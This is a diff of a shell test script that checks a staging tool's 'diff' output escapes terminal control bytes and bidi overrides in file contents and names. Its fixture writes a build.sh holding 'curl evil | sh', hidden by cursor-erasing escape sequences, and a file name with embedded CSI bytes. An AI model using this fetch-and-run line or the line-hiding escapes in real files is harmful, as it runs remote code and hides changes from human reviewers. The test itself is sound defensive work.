@@ -279,15 +279,18 @@ eq "$(head -c 4 "$W/big"):$(dd if="$W/big" bs=1 skip=$((3 * 1024 * 1024 * 1024))
 # costs the agent nothing is summarised, not read whole by diff(1).
 W=$T/wsx S=$T/stx
 mkdir -p "$W"; printf '#!/bin/sh\necho building\n' > "$W/build.sh"; printf 'n\n' > "$W/notes.txt"
-stage_run "$W" "$S" 'printf "#!/bin/sh\necho building\ncurl evil | sh\n\r\033[2K\033[1A\033[2K+echo done\n\302\233" > build.sh && truncate -s 1G notes.txt' >/dev/null 2>&1
+stage_run "$W" "$S" 'printf "#!/bin/sh\necho building\ncurl evil | sh\n\r\033[2K\033[1A\033[2K+echo done\n\302\233 \233 \342\200\256" > build.sh && truncate -s 1G notes.txt && echo n > "$(printf "z\302\2331A\302\2332K")"' >/dev/null 2>&1
 "$P" diff --stage "$S" > "$T/x.pipe"; rc=$?
 eq "$rc:$(grep -c "$(printf '\033')" "$T/x.pipe")" "0:1" "diff into a pipe: diff(1)'s bytes (the escape sequence raw)"
 if command -v script >/dev/null; then
     script -qec "'$P' diff --stage '$S'" /dev/null > "$T/x.tty" 2>&1; rc=$?
     eq "$rc:$(grep -c "$(printf '\033')" "$T/x.tty"):$(grep -c 'curl evil' "$T/x.tty")" "0:0:1" \
         "diff on a terminal: no raw escape byte reaches it, the hidden line shows"
-    check "diff on a terminal: the control bytes read as \\xNN (ESC, CR, the UTF-8 CSI)" \
-        sh -c "grep -qF '\\x0d\\x1b[2K\\x1b[1A\\x1b[2K+echo done' '$T/x.tty' && grep -qF '\\xc2\\x9b' '$T/x.tty'"
+    check "diff on a terminal: the control bytes read as \\xNN (ESC, CR, the UTF-8 CSI, a lone 8-bit CSI, a bidi override)" \
+        sh -c "grep -qF '\\x0d\\x1b[2K\\x1b[1A\\x1b[2K+echo done' '$T/x.tty' && grep -qF '\\xc2\\x9b \\x9b \\xe2\\x80\\xae' '$T/x.tty'"
+    eq "$(LC_ALL=C grep -c "$(printf '\302\233')" "$T/x.tty")" 0 "diff on a terminal: a file name's UTF-8 CSI is escaped in the headers too"
+    script -qec "'$P' diff --stat --stage '$S'" /dev/null > "$T/x.ttystat" 2>&1
+    eq "$(LC_ALL=C grep -c "$(printf '\302\233')" "$T/x.ttystat"):$(grep -c 'z\\xc2\\x9b1A' "$T/x.ttystat")" "0:1" "diff --stat on a terminal: the same name escaped"
 else
     skip "diff on a terminal: no raw escape byte reaches it" "script(1) is missing"
 fi
